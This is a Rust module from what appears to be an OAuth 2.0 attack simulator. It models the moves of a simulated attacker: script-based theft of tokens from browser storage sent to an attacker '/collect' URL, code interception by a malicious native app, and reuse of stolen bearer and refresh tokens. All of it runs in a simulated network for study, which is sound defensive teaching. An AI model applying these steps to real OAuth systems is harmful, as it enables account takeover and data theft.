//! The attacker's moves and the checks on their outcome that several
//! attacks share, and how an attack is staged. The implicit-versus-code
//! comparison replays history with the same moves; this module imports
//! neither it nor the attacks.

use serde_json::Value;

use super::attack::{Attack, AttackRun, Outcome};
use crate::channel::Channel;
use crate::form::decode_form;
use crate::http::{Request, Response, Url};
use crate::jose::SigningKey;
use crate::rng::SeededRng;
use crate::server::PkcePolicy;
use crate::sim::attacker::ATTACKER;
use crate::sim::browser::Browser;
use crate::sim::client::{Client, error_from_json};
use crate::sim::flows::code::authorization_code;
use crate::sim::flows::steps::{api_url, page_text, sign_in_and_consent};
use crate::sim::network::{Network, Support, from_browser, navigate};
use crate::sim::scenario::Scenario;
use crate::sim::trace::{Party, RfcRef};
pub(super) const STOLEN_CODE: [RfcRef; 2] = [RfcRef::new(7636, "4.6"), RfcRef::new(6749, "4.1.3")];
const STOLEN_TOKEN: [RfcRef; 2] = [RfcRef::new(6750, "5.3"), RfcRef::new(9700, "4.10")];
const INTERCEPT: [RfcRef; 2] = [RfcRef::new(8252, "8.1"), RfcRef::new(7636, "1")];
const ROTATION: [RfcRef; 2] = [RfcRef::new(9700, "4.14.2"), RfcRef::new(6749, "6")];

/// A native app's redirect URI: a private-use scheme (RFC 8252 section 7.1).
pub const NATIVE_REDIRECT_URI: &str = "com.example.app:/callback";

/// A native app (public client) on the user's phone.
pub(super) fn native_app(seed: u64, pkce: PkcePolicy) -> Scenario {
    let mut scenario = Scenario {
        seed,
        ..Scenario::default()
    };
    scenario.client.client_id = "native-app".into();
    scenario.client.redirect_uri = NATIVE_REDIRECT_URI.into();
    scenario.registration.redirect_uris = vec![NATIVE_REDIRECT_URI.into()];
    scenario.policy.pkce = pkce;
    scenario
}

/// Sets up the network for `scenario`, with `support` if given (as a run
/// sets it up, `Network::give_support`), plays the attack on it, and keeps
/// the trace.
pub(super) fn stage(
    attack: Attack,
    defended: bool,
    scenario: Scenario,
    key: SigningKey,
    support: Option<Support>,
    // Dynamic, not generic: one copy of this function for every attack.
    play: &dyn Fn(&Scenario, &mut Network<'_>, &mut Browser, &mut Client) -> Outcome,
) -> AttackRun {
    let mut network = scenario.network(key, Box::new(SeededRng::new(scenario.seed)));
    let mut browser = Browser::new(scenario.referrer_policy);
    let mut client = Client::new(scenario.client.clone());
    if let Some(support) = support {
        network.give_support(support, &client);
    }
    let outcome = play(&scenario, &mut network, &mut browser, &mut client);
    AttackRun {
        attack,
        defended,
        trace: network.trace,
        outcome,
    }
}

/// The error in a response that refuses something, as the protocol
/// states it: an error redirect's `error`, a JSON error body, a Bearer
/// challenge, an error page's message. `None` for a success.
pub(in crate::sim) fn refusal(response: &Response) -> Option<String> {
    if (200..300).contains(&response.status) {
        return None;
    }
    if response.status == 302 {
        let location = Url::parse(response.headers.get("Location")?).ok()?;
        let mut pairs = location.query_pairs().unwrap_or_default();
        pairs.extend(
            decode_form(location.fragment.as_deref().unwrap_or_default()).unwrap_or_default(),
        );
        let get = |name: &str| {
            pairs
                .iter()
                .find(|(n, _)| n == name)
                .map(|(_, v)| v.clone())
        };
        return get("error")
            .map(|error| format!("{error}: {}", get("error_description").unwrap_or_default()));
    }
    if let Some(body) = response.json_body()
        && body["error"].is_string()
    {
        return Some(error_from_json(&body).to_string());
    }
    if response.body.contains("<p>") {
        return Some(page_text(response));
    }
    Some(format!("the server answered {}", response.status))
}

/// The index of the latest exchange.
pub(super) fn last(network: &Network<'_>) -> usize {
    network.trace.len().saturating_sub(1)
}

/// `Err(Stopped)` if the latest exchange's response refuses it.
pub(super) fn passed(network: &Network<'_>) -> Result<usize, Outcome> {
    let step = last(network);
    match network.trace.get(step).and_then(|e| refusal(&e.response)) {
        Some(error) => Err(Outcome::Stopped { step, error }),
        None => Ok(step),
    }
}

/// The victim signs in to the client as usual, the whole authorization
/// code flow: `Err` with the outcome if that already stopped the attack.
pub(super) fn victim_completes_sign_in(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Result<(), Outcome> {
    match authorization_code(scenario, network, browser, client) {
        Ok(_) => Ok(()),
        Err(_) => Err(passed(network)
            .err()
            .unwrap_or_else(|| stopped_here(network))),
    }
}

/// An outcome for a refusal that left no error in the response itself.
pub(super) fn stopped_here(network: &Network<'_>) -> Outcome {
    Outcome::Stopped {
        step: last(network),
        error: "refused".into(),
    }
}

pub(super) fn no_randomness(network: &Network<'_>) -> Outcome {
    Outcome::Stopped {
        step: last(network),
        error: "no randomness available".into(),
    }
}

/// The outcome of the attacker's API call, just made.
pub(super) fn api_outcome(network: &Network<'_>, what: impl FnOnce(&Value) -> String) -> Outcome {
    match passed(network) {
        Err(stopped) => stopped,
        Ok(step) => {
            let body = network.trace[step].response.json_body().unwrap_or_default();
            Outcome::Succeeded {
                step,
                gained: what(&body),
            }
        }
    }
}

/// "Alice Liddell's profile: {…}", from the API's answer.
pub(super) fn profile(body: &Value) -> String {
    let name = body["name"].as_str().unwrap_or("someone");
    format!("{name}'s profile from the API: {body}")
}

/// A URL on the attacker's site.
pub(in crate::sim) fn attacker_url(path: &str) -> Url {
    Url {
        origin: ATTACKER.into(),
        path: path.into(),
        query: None,
        fragment: None,
    }
}

/// The victim signs in, and the app keeps its refresh token (and, if
/// `access_too`, its access token) in the browser's storage, where a script
/// injected into the page reads them and sends them to the attacker's site.
/// The refresh token the attacker now holds.
pub(super) fn script_steals_tokens(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
    access_too: bool,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Result<String, Outcome> {
    victim_completes_sign_in(scenario, network, browser, client)?;
    let origin = scenario.client.origin();
    if let Some(tokens) = &client.tokens {
        if access_too {
            browser.store(&origin, "access_token", tokens.access_token.secret());
        }
        if let Some(refresh) = &tokens.refresh_token {
            browser.store(&origin, "refresh_token", refresh.secret());
        }
    }
    let read: Vec<(&str, &str)> = ["access_token", "refresh_token"]
        .into_iter()
        .filter_map(|name| Some((name, browser.stored(&origin, name)?)))
        .collect();
    let url = Url {
        query: Some(crate::form::encode_form(&read)),
        ..attacker_url("/collect")
    };
    let request = browser.subresource_request(url);
    from_browser(network, browser, request, false, explanation, rfc_refs);
    network
        .attacker
        .captured("refresh_token")
        .ok_or_else(|| stopped_here(network))
}

/// The value of `name` in a URL's query.
pub(in crate::sim) fn query_param(url: &Url, name: &str) -> Option<String> {
    url.query_pairs()
        .ok()?
        .into_iter()
        .find(|(n, _)| n == name)
        .map(|(_, value)| value)
}

/// The `Location` of a redirect.
pub(in crate::sim) fn location(response: &Response) -> Option<Url> {
    response
        .headers
        .get("Location")
        .and_then(|value| Url::parse(value).ok())
}

/// What the client's callback page answers: its usual page, or, when the
/// client refuses the response, an error page saying why.
pub(in crate::sim) fn callback_page(refused: Option<&str>) -> Response {
    let body = match refused {
        None => "<!doctype html><title>App</title><p>Signing you in…</p>".to_owned(),
        Some(error) => format!(
            "<!doctype html><title>App</title><p>Sign-in failed: {}.</p>",
            crate::http::escape_html(error)
        ),
    };
    Response::new(if refused.is_some() { 400 } else { 200 })
        .with_header("Content-Type", "text/html; charset=utf-8")
        .with_body(body)
}

/// The browser runs the login up to the server's redirect back to the
/// client: authorization request, sign-in, consent. `Err` if the server
/// refused the request.
pub(super) fn victim_signs_in(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    authorize: Url,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Result<Response, Outcome> {
    let page = navigate(
        network,
        browser,
        Request::get(authorize),
        explanation,
        rfc_refs,
    );
    passed(network)?;
    if page.status != 200 {
        // A redirect here is an error redirect, which `passed` reported.
        return Err(stopped_here(network));
    }
    sign_in_and_consent(
        &scenario.user,
        network,
        browser,
        &page,
        "Alice approves. The server redirects to the redirect_uri with the code.",
        &[RfcRef::new(6749, "4.1.2")],
    )
    .map_err(|stop| Outcome::Stopped {
        step: last(network),
        error: stop.to_string(),
    })
}

/// The attacker calls the API with a stolen access token.
pub(in crate::sim) fn attacker_calls_api(
    network: &mut Network<'_>,
    token: &str,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Response {
    let request = Request::get(api_url()).with_header("Authorization", format!("Bearer {token}"));
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        rfc_refs,
    )
}

/// The attacker redeems a code at the honest token endpoint as the
/// (public) client would: client_id, no secret, and a verifier if it has
/// one.
pub(in crate::sim) fn attacker_redeems_code(
    network: &mut Network<'_>,
    code: &str,
    redirect_uri: &str,
    client_id: &str,
    verifier: Option<&str>,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Response {
    let mut form = vec![
        ("grant_type", "authorization_code"),
        ("code", code),
        ("redirect_uri", redirect_uri),
        ("client_id", client_id),
    ];
    if let Some(verifier) = verifier {
        form.push(("code_verifier", verifier));
    }
    let request = Request::post_form(network.server.endpoint("/token"), &form);
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        rfc_refs,
    )
}

/// The attacker refreshes with a stolen refresh token.
pub(in crate::sim) fn attacker_refreshes(
    network: &mut Network<'_>,
    refresh_token: &str,
    client_id: &str,
    explanation: &str,
) -> Response {
    let request = Request::post_form(
        network.server.endpoint("/token"),
        &[
            ("grant_type", "refresh_token"),
            ("refresh_token", refresh_token),
            ("client_id", client_id),
        ],
    );
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        &ROTATION,
    )
}

/// The redirect goes to the malicious app, which redeems the code and
/// calls the API.
pub(super) fn intercept_and_redeem(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    redirect: &Response,
    verifier: Option<&str>,
) -> Outcome {
    let Some(callback) = location(redirect) else {
        return stopped_here(network);
    };
    network.attacker.pages.insert(
        callback.path.clone(),
        Response::new(200).with_body("opened"),
    );
    from_browser(
        network,
        browser,
        Request::get(callback),
        false,
        "The browser hands com.example.app:/callback to the operating system, which opens the \
         app registered for that scheme. Two apps claimed it, and the malicious one gets the \
         code.",
        &INTERCEPT,
    );
    let Some(code) = network.attacker.captured("code") else {
        return stopped_here(network);
    };
    let explanation = match verifier {
        Some(_) => {
            "The malicious app redeems the code. It read the challenge in the downgraded \
             request, where plain made challenge and verifier the same, so it sends the \
             challenge as code_verifier."
        }
        None => {
            "The malicious app redeems the code as the real app would: a public client \
             authenticates with its client_id alone. It has no code_verifier to send."
        }
    };
    attacker_redeems_code(
        network,
        &code,
        &scenario.client.redirect_uri,
        &scenario.client.client_id,
        verifier,
        explanation,
        &STOLEN_CODE,
    );
    attacker_uses_tokens(network)
}

/// The attacker, holding a token response at the latest step, calls the
/// API with its access token.
pub(super) fn attacker_uses_tokens(network: &mut Network<'_>) -> Outcome {
    let step = match passed(network) {
        Ok(step) => step,
        Err(stopped) => return stopped,
    };
    let body = network.trace[step].response.json_body().unwrap_or_default();
    let Some(token) = body["access_token"].as_str() else {
        return stopped_here(network);
    };
    attacker_calls_api(
        network,
        token,
        "The attacker calls the API with the access token it got: a bearer token works for \
         whoever holds it.",
        &STOLEN_TOKEN,
    );
    api_outcome(network, |body| {
        format!("The attacker reads {}", profile(body))
    })
}
